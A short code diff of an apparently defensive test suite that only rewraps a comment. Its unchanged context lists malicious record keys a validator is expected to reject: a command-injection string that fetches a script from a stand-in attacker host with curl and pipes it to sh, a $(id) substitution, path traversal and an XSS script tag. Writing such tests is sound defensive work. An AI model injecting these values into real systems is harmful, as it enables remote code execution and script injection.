@@ -103,7 +103,8 @@ describe.each(NO_WORDS)('%s where a text belongs', (_, noWords) => {
   });
 });
 
-// A key of a record goes into commands that are copied into a shell, into tags that are copied into a page, and into addresses.
+// A record key goes into commands that are copied into a shell, into tags that are copied into a
+// page, and into addresses.
 // biome-ignore lint/suspicious/noTemplateCurlyInString: it is a shell's
 describe.each(['x;curl${IFS}evil.example|sh', '$(id)', '..', '"><script>alert(1)</script>', `k${'k'.repeat(100_000)}`])(
   'a record with the key %.30s, which is none',
